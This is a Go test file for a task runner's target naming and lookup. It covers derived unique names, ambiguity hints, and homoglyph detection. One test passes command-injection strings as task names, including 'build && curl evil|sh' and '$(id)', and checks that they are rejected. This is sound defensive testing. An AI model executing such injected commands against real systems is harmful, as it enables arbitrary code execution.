package targets

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/gantry-run/gantry/internal/fault"
)

// named makes a listing of targets given as "name runner".
func named(list ...string) Listing {
	var l Listing
	for _, item := range list {
		n, runner, _ := strings.Cut(item, " ")
		l.Targets = append(l.Targets, Target{Name: n, Runner: runner, suffix: runner, FilePath: "the " + runner + " file"})
	}
	name(l.Targets)
	return l
}

func uniqueNames(l Listing) string {
	var names []string
	for _, t := range l.Targets {
		names = append(names, t.UniqueName)
	}
	return strings.Join(names, " ")
}

func TestUniqueNamesAreThoseOfTheFacts(t *testing.T) {
	for _, c := range []struct {
		list []string
		want string
	}{
		{[]string{"test make"}, "test"},
		{[]string{"test make", "build npm"}, "test build"},
		{[]string{"test make", "test npm"}, "test-m test-n"},
		{[]string{"test make", "test mvn"}, "test-m test-mvn"},
		{[]string{"test gradle", "test gradle"}, "test-g test-gra"},
		{[]string{"test gradle", "test gradle", "test gradle", "test gradle", "test gradle", "test gradle", "test gradle"},
			"test-g test-gra test-grad test-gradl test-gradle test-gradle1 test-gradle2"},
		{[]string{"x sh", "x sh", "x sh"}, "x-s x-sh x-sh1"},
		{[]string{"x éa", "x éa", "x éa"}, "x-é x-éa x-éa1"},
		{[]string{"up docker compose", "up make"}, "up-d up-m"},
		{[]string{"up docker compose", "up docker compose", "up docker compose", "up docker compose", "up docker compose"},
			"up-d up-doc up-dock up-docke up-docker"},
		// A derived name is never one that a target has by itself.
		{[]string{"test make", "test npm", "test-m just"}, "test-mak test-n test-m"},
		{[]string{"test-m just", "test make", "test npm"}, "test-m test-mak test-n"},
		{[]string{"a make", "a npm", "a-m make", "a-m npm"}, "a-mak a-n a-m-m a-m-n"},
	} {
		if got := uniqueNames(named(c.list...)); got != c.want {
			t.Errorf("%v: %s, want %s", c.list, got, c.want)
		}
	}
}

func TestUniqueNamesAreUniqueAndFindTheirTarget(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		items := rapid.SliceOfN(rapid.Custom(func(t *rapid.T) string {
			return rapid.SampledFrom([]string{"a", "a-m", "a-m-m", "a-mak", "a-make", "a-make1", "b"}).Draw(t, "name") + " " +
				rapid.SampledFrom([]string{"make", "mvn", "m", "docker compose"}).Draw(t, "runner")
		}), 0, 12).Draw(t, "items")
		l := named(items...)
		seen := map[string]bool{}
		for i, x := range l.Targets {
			if seen[x.UniqueName] {
				t.Fatalf("%s twice in %v", x.UniqueName, items)
			}
			seen[x.UniqueName] = true
			got, err := l.Lookup(x.UniqueName)
			if err != nil || got.Runner != l.Targets[i].Runner || got.Name != x.Name {
				t.Fatalf("%s finds %+v, %v", x.UniqueName, got, err)
			}
		}
	})
}

func TestLookupTakesAPlainNameOnlyWhenOneTargetHasIt(t *testing.T) {
	l := named("test make", "test npm", "build make")
	for _, name := range []string{"build", "build-m", "test-m", "test-n"} {
		if x, err := l.Lookup(name); err != nil || !strings.HasPrefix(name, x.Name) {
			t.Errorf("%s: %+v, %v", name, x, err)
		}
	}
	_, err := l.Lookup("test")
	var f *fault.Fault
	if !errors.As(err, &f) || f.Code != fault.TaskAmbiguous || f.Hint != "Use one of: test-m, test-n" {
		t.Fatalf("%v, %s", err, f.Hint)
	}
	c := f.Details.(Candidates).Candidates
	if got := fmt.Sprint(c[0], c[1]); got != "  • test-m (make from the make file)   • test-n (npm from the npm file)" {
		t.Error(got)
	}
}

func TestAnUnknownNameIsNotFoundInTheWordsOfTheSeed(t *testing.T) {
	l := named("build make")
	for _, name := range []string{
		"nonexistent-task", "build && curl evil|sh", "build`id`", "build$(id)", "build|tee /x", "build-n", "", strings.Repeat("x", 5000),
	} {
		_, err := l.Lookup(name)
		var f *fault.Fault
		if !errors.As(err, &f) || f.Code != fault.TaskNotFound || f.Hint != "Use 'list_tasks' to see available tasks" {
			t.Errorf("%.50q: %v", name, err)
			continue
		}
		if name == "nonexistent-task" && f.Message != "Task 'nonexistent-task' not found" {
			t.Error(f.Message)
		}
	}
}

// H139.
func TestANameThatOnlyLooksLikeOneIsShown(t *testing.T) {
	l := named("build make", "test make", "test npm")
	for name, want := range map[string][]string{
		"build ":      {"build"},
		"BUILD":       {"build"},
		"build\u200b": {"build", "U+200B"},
		"buіld":       {"build", "U+0456"},
		"build\nid":   nil,
		"test-m ":     {"test-m"},
		"test-M":      {"test-m"},
		"ｂuild":       {"build", "U+FF42"},
		"test–m":      {"test-m", "U+2013"},
	} {
		_, err := l.Lookup(name)
		var f *fault.Fault
		if !errors.As(err, &f) || f.Code != fault.TaskNotFound {
			t.Errorf("%q: %v", name, err)
			continue
		}
		if (f.Details != nil) != (want != nil) {
			t.Errorf("%q: details %v", name, f.Details)
		}
		for _, w := range want {
			if !strings.Contains(f.Hint, w) {
				t.Errorf("%q: %q lacks %s", name, f.Hint, w)
			}
		}
		if strings.ContainsAny(f.Message+f.Hint, "\n\u200b") {
			t.Errorf("%q: raw in %q", name, f.Message)
		}
	}
}
